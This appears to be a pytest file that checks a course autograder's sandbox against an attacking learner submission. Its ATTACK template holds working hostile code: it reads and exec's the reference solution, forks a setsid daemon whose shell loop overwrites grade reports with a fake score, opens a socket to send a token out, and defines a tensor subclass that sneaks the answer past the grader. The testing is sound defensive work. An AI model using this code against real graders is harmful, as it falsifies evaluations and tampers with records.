"""A submission with full control of its process, graded through every path a grade takes.

The course is copied with its source rules switched off (the first line of defence, as if
the learner had found a way past it) and with its reference and a ``.git`` whose objects hold
the reference, as an instructor's course has. The learner's chapter 2 file then does what a
dishonest learner would with ``os`` and ``subprocess`` in hand: it reads the reference (the
file, or ``git show``) and uses it for 2.1 when it can; it starts a ``setsid`` daemon that
keeps rewriting the reports and gradebooks at paths it was told (a strong attacker knows
them) after the grader is done; it tries the network. Failing all of that, its 2.1 returns
a placeholder, a subclass of ``nn.Parameter`` whose ``detach()`` computes the softmax with
PyTorch's ``Softmax2d`` (a grader that converts results after its guard is off would credit
it; this one accepts only exact tensors). The control's 2.1 is PyTorch's fused attention
kernel made to compute the softmax (refused at the dispatcher). Its 2.2 and 2.3 are the
reference's own lines.

Each path must then credit what an honest grader would (2.1 nothing, 2.2 and 2.3 their
points), write reports that nothing changes afterwards, and leave no process behind:
``grade`` run by hand, ``grade.yml``'s and ``classroom.yml``'s own grading steps (as GitHub
runs them: as root), and ``regrade`` of that learner beside an honest and an untouched one.
"""

from __future__ import annotations

import functools
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from grading_run import grade_run, run_grading_step

from annotated_transformer.course.authoring import stubs
from annotated_transformer.course.grading import boundary
from annotated_transformer.layout import ROOT

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(boundary.unavailable() is not None,
                                 reason=f"no sandbox here: {boundary.unavailable()}")]

REFERENCE = (ROOT / "solutions" / "ch02_attention.py").read_text()
START = REFERENCE.index("    # BEGIN SOLUTION 2.1")
END = REFERENCE.index("    # END SOLUTION", START)
FAKE = "fake report, 155 points"

ATTACK = '''
import os
import socket
import subprocess

TOKEN = {token!r}
ANSWERS = {answers!r}  # the reference's file and the course's repository, wherever they are
TARGETS = {targets!r}  # reports and gradebooks to rewrite
PORT = {port}


def _from_reference(x, dim):
    """2.1 by the reference, when any road to it is open (None when none is)."""
    for path in ANSWERS:
        try:
            if path.endswith(".py"):
                source = open(path).read()
            else:
                source = subprocess.run(["git", "-C", path, "show",
                                         "HEAD:solutions/ch02_attention.py"],
                                        capture_output=True, text=True, timeout=10).stdout
            namespace = {{}}
            exec(compile(source, path, "exec"), namespace)
            return namespace["softmax"](x, dim)
        except Exception:
            continue
    return None


def _leak():
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(TOKEN.encode())
    except OSError:
        pass


def _daemon():
    """A process of its own session that rewrites the reports after the grader is done."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["/bin/sh", "-c", "for i in $(seq 300); do for f in "
                     + " ".join(TARGETS) + "; do echo '{fake}' > $f; done 2>/dev/null; "
                     "sleep 0.1; done; : " + TOKEN])
        os._exit(0)


try:
    _daemon()
except OSError:  # the worker may start no process
    pass
_leak()


class _Placeholder(torch.nn.Parameter):
    """A result whose own methods compute the softmax with PyTorch's, if anyone calls them
    (the grader's conversion of a result, once, did so after its guard was off)."""

    def detach(self):
        return torch.nn.Softmax2d()(self.source.movedim(self.dim, -3)).movedim(-3, self.dim)


def _placeholder(x, dim):
    out = _Placeholder(torch.zeros_like(x))
    out.source, out.dim = x.detach(), dim
    return out
'''

# The control's 2.1: softmax(x) as the weights of an attention
# whose keys are x, computed by PyTorch's fused kernel (nn.MultiheadAttention in eval mode).
# The source rules are off in this course; the allow-list at the dispatcher refuses it.
FALLBACK = """\
moved = x.movedim(dim, -1)
n = moved.shape[-1]
rows = moved.reshape(-1, n).float()
attention = torch.nn.MultiheadAttention(n, 1, bias=False, batch_first=True).eval()
with torch.no_grad():
    attention.in_proj_weight.copy_(torch.eye(n).repeat(3, 1))
    attention.out_proj.weight.copy_(torch.eye(n))
    keys = torch.zeros(rows.shape[0], n, n)
    keys[:, :, 0] = rows * n ** 0.5
    query = torch.zeros(rows.shape[0], 1, n)
    query[:, 0, 0] = 1.0
    out, _ = attention(query, keys, torch.eye(n).expand(rows.shape[0], n, n),
                       need_weights=False)
return out[:, 0].to(x.dtype).reshape(moved.shape).movedim(-1, dim)"""
ATTACKING_SOFTMAX = '''\
found = _from_reference(x, dim)
if found is not None:
    return found
return _placeholder(x, dim)'''


@pytest.fixture(scope="module")
def listener():
    """A local port the payload tries to reach; what arrives there is recorded."""
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.5)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                received.append(connection.recv(1000))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """The course with its source rules off, its reference, and a .git holding it."""
    folder = tmp_path_factory.mktemp("course") / "course"
    for name in ("annotated_transformer", "solutions", "exercises", "tests/graded", ".github"):
        shutil.copytree(ROOT / name, folder / name,
                        ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", "README.md"):
        shutil.copy(ROOT / name, folder)
    rules = folder / "annotated_transformer/course/grading/source_rules.py"
    rules.write_text(rules.read_text() + "\n\ndef check_folder(folder, forbidden=None):  # off\n"
                     "    return {}\n")
    git = ["git", "-C", str(folder), "-c", "user.name=course", "-c", "user.email=c@example.org"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "solutions"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "the reference"], check=True)
    return folder


def attacker(folder: Path, course: Path, targets: list[Path], port: int) -> tuple[Path, str]:
    """A learner's exercises/ whose chapter 2 attacks; its token (in its processes' names)."""
    token = f"attack-{os.getpid()}-{time.monotonic_ns()}"
    stubs.write_stubs(folder)
    header = ATTACK.format(token=token, port=port, targets=[str(t) for t in targets],
                           answers=[str(course / "solutions" / "ch02_attention.py"),
                                    str(course), str(ROOT / "solutions/ch02_attention.py"),
                                    str(ROOT)], fake=FAKE)
    body = "".join(f"    {line}\n" for line in ATTACKING_SOFTMAX.splitlines())
    text = REFERENCE[:START] + body + REFERENCE[END:]
    at = text.index("\nimport torch\n") + len("\nimport torch\n")
    (folder / "ch02_attention.py").write_text(text[:at] + header + text[at:])
    return folder, token


def honest(folder: Path) -> Path:
    stubs.write_stubs(folder)
    shutil.copy(ROOT / "solutions" / "ch02_attention.py", folder / "ch02_attention.py")
    return folder


def settled(token: str, files: list[Path], received: list[bytes]) -> None:
    """After the grader is done: no process of the attack is left, no report or gradebook
    was rewritten, nothing reached the network."""
    time.sleep(2)  # a daemon that survived would have rewritten the files by now
    alive = [p for p in _processes() if token.encode() in _cmdline(p)]
    assert not alive, f"processes of the submission outlived the grader: {alive}"
    for path in files:
        assert "fake" not in path.read_text(), f"{path} was rewritten"
    assert not any(token.encode() in r for r in received), "the submission reached the network"


@pytest.fixture(scope="module")
def honest_grade(tmp_path_factory):
    """``honest_grade(seed)``: what the attacking file earns on its own merits, the same file
    with its attacks gone (2.1 wrong, 2.2 and 2.3 the reference's lines), graded by the
    course's grader with that seed."""
    folder = tmp_path_factory.mktemp("control")
    stubs.write_stubs(folder)
    body = "".join(f"    {line}\n" for line in FALLBACK.splitlines())
    (folder / "ch02_attention.py").write_text(REFERENCE[:START] + body + REFERENCE[END:])

    @functools.cache
    def graded(seed: int) -> dict[str, tuple[float, str]]:
        rows = grade_run([2], str(folder), seed=seed).rows()
        found = {r.id: (r.points, r.status) for r in rows}
        assert found["2.1"] == (0, "forbidden") and found["2.3"][0] == 4, found  # the control
        return found

    return graded


def credited_as_honest(found: dict[str, tuple[float, str]],
                       honest: dict[str, tuple[float, str]]) -> None:
    """The same points as the control, and what passes there passes here; 2.1 refused (its
    placeholder is not plain data), and 2.2, which calls it, fails with it."""
    assert {e: p for e, (p, _) in found.items()} == {e: p for e, (p, _) in honest.items()}, (
        f"credited {found}, where an honest grader gives {honest}")
    assert found["2.1"][1] in ("forbidden", "error"), found
    assert {e for e, (_, s) in found.items() if s == "passed"} == {
        e for e, (_, s) in honest.items() if s == "passed"}, found


def test_grade_by_hand(course, listener, honest_grade, tmp_path):
    port, received = listener
    out = tmp_path / "report"
    out.mkdir()
    report = out / "grade.json"
    folder, token = attacker(tmp_path / "exercises", course, [report], port)
    done = subprocess.run([sys.executable, "-m", "annotated_transformer", "grade", "--parts",
                           str(folder), "--chapter", "2", "--no-cache", "--sandbox",
                           "bubblewrap", "--seed", "4", "--json", str(report)], cwd=course,
                          capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    settled(token, [report], received)
    data = json.loads(report.read_text())
    assert data["sandbox"].startswith("bubblewrap")
    credited_as_honest({r["id"]: (r["points"], r["status"]) for r in data["exercises"]},
                       honest_grade(4))


@pytest.mark.skipif(os.geteuid() != 0, reason="the workflows run the grader as root")
@pytest.mark.parametrize("workflow", ["grade.yml", "classroom.yml"])
def test_the_workflow_s_own_grading_step(course, listener, honest_grade, workflow, tmp_path):
    """The workflow's grading step, run as GitHub runs it, in a workspace whose .course is
    the course above (its reference and .git still there: the sandbox alone hides them)."""
    port, received = listener
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    temp = workspace / "temp"
    report = temp / "grade" / "grade.json"
    folder, token = attacker(workspace / "exercises", workspace / ".course",
                             [report, temp / "grade" / "grade.md"], port)
    done = run_grading_step(workflow, workspace, course)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    settled(token, [report, temp / "grade" / "grade.md"], received)
    data = json.loads(report.read_text())
    found = {r["id"]: (r["points"], r["status"]) for r in data["exercises"] if r["chapter"] == 2}
    credited_as_honest(found, honest_grade(data["seed"]))  # the workflow draws its seed
    assert data["workflow"]["changed"] is False


def test_regrade_of_several_learners(course, listener, honest_grade, tmp_path):
    port, received = listener
    out = tmp_path / "grades"
    out.mkdir()
    targets = [out / "gradebook.csv", out / "gradebook.json"]
    submissions = tmp_path / "submissions"
    folder, token = attacker(submissions / "mallory" / "exercises", course, targets, port)
    honest(submissions / "alice" / "exercises")
    stubs.write_stubs(submissions / "bob" / "exercises")
    done = subprocess.run([sys.executable, "-m", "annotated_transformer", "regrade",
                           *(str(submissions / n) for n in ("mallory", "alice", "bob")),
                           "--chapter", "2", "--out", str(out), "--seed", "4"], cwd=course,
                          capture_output=True, text=True, timeout=1200)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    settled(token, targets, received)
    book = json.loads((out / "gradebook.json").read_text())
    assert book["sandbox"].startswith("bubblewrap")
    rows: dict[str, dict[str, dict]] = {}
    for row in book["rows"]:
        rows.setdefault(row["learner"], {})[row["exercise"]] = row
    credited_as_honest({e: (r["points"], r["status"]) for e, r in rows["mallory"].items()},
                       honest_grade(4))
    assert all(r["status"] == "passed" for r in rows["alice"].values()), rows["alice"]
    assert all(r["points"] == 0 for r in rows["bob"].values()), rows["bob"]


def _processes() -> list[int]:
    return [int(entry.name) for entry in os.scandir("/proc") if entry.name.isdigit()]


def _cmdline(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read()
    except OSError:
        return b""
